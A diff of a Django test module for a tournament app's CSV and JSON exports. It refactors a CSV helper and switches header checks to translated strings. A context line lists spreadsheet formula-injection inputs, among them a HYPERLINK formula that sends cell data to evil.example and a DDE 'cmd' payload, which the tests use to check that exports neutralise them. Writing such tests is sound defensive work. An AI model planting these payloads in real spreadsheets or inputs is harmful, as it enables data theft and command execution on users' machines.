@@ -11,6 +11,7 @@ from django.urls import reverse
 
 from tables.standings.export_views import SafeCsvWriter
 from tests.factories import ClubFactory, RegistrationFactory, report, seat_round
+from tests.html import one, text, tr
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3", "\tTab", "\rReturn"]
@@ -28,12 +29,12 @@ def hostile(tournament, organiser):
     return tournament
 
 
-def _rows(client, name, tournament, **params):
+def _rows(client, name, tournament, delimiter=None, **params):
     response = client.get(reverse(f"manage:{name}", args=[tournament.pk]), params)
     assert response.status_code == 200
-    text = response.content.decode("utf-8-sig")
-    delimiter = ";" if params.get("format") == "excel-it" else ","
-    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+    exported = response.content.decode("utf-8-sig")
+    delimiter = delimiter or (";" if params.get("format") == "excel-it" else ",")
+    return list(csv.reader(io.StringIO(exported, newline=""), delimiter=delimiter))
 
 
 @pytest.mark.parametrize("name", ["standings_csv", "results_csv"])
@@ -62,28 +63,27 @@ def test_italian_spreadsheet_format_uses_semicolons_and_decimal_commas(client_fo
     results = _rows(client, "results_csv", hostile, format="excel-it")
     assert results[1][:6] == ["1", "1", "1", f"'{HOSTILE[0]} Rossi", "'=1+1", "60,50"]
     standings = _rows(client, "standings_csv", hostile, format="excel-it")
-    assert standings[0][:5] == ["Rank", "Player", "Club", "Total", "Wins"]
+    assert standings[0][:5] == [tr(w) for w in ("Rank", "Player", "Club", "Total", "Wins")]
     assert all("," in row[3] and "." not in row[3] for row in standings[1:])
 
 
 def test_italian_is_the_default_format_of_the_italian_interface(client_for, organiser, hostile, settings):
     settings.LANGUAGE_CODE = "it"
     client = client_for(organiser)
-    text = client.get(reverse("manage:results_csv", args=[hostile.pk])).content.decode("utf-8-sig")
-    assert text.splitlines()[0].startswith("Turno;Tavolo;")
-    plain = client.get(reverse("manage:results_csv", args=[hostile.pk]), {"format": "csv"})
-    assert plain.content.decode("utf-8-sig").splitlines()[0].startswith("Turno,Tavolo,")
-    standings = client.get(reverse("manage:standings_csv", args=[hostile.pk])).content.decode("utf-8-sig")
-    rows = list(csv.reader(io.StringIO(standings, newline=""), delimiter=";"))
-    assert rows[0][:4] == ["Posizione", "Giocatore", "Club", "Totale"]
+    italian = [tr(w, "it") for w in ("Round", "Table", "Seat")]
+    assert italian != ["Round", "Table", "Seat"]   # the Italian catalogue's words, not the English ones
+    assert _rows(client, "results_csv", hostile, delimiter=";")[0][:3] == italian
+    assert _rows(client, "results_csv", hostile, format="csv")[0][:3] == italian
+    rows = _rows(client, "standings_csv", hostile, delimiter=";")
+    assert rows[0][:4] == [tr(w, "it") for w in ("Rank", "Player", "Club", "Total")]
     assert all("," in row[3] and "." not in row[3] for row in rows[1:])
 
 
 def test_tournament_json_is_the_export_command_document(client_for, organiser, hostile):
     client = client_for(organiser)
-    page = client.get(reverse("manage:tournament", args=[hostile.pk])).content.decode()
+    page = client.get(reverse("manage:tournament", args=[hostile.pk]))
     url = reverse("manage:tournament_json", args=[hostile.pk])
-    assert f'href="{url}"' in page and "Download tournament (JSON)" in page
+    assert text(one(page, f"a[href='{url}']")) == tr("Download tournament (JSON)")
     response = client.get(url)
     assert response["Content-Type"] == "application/json; charset=utf-8"
     assert response["Content-Disposition"] == f'attachment; filename="torneo-{hostile.pk}.json"'
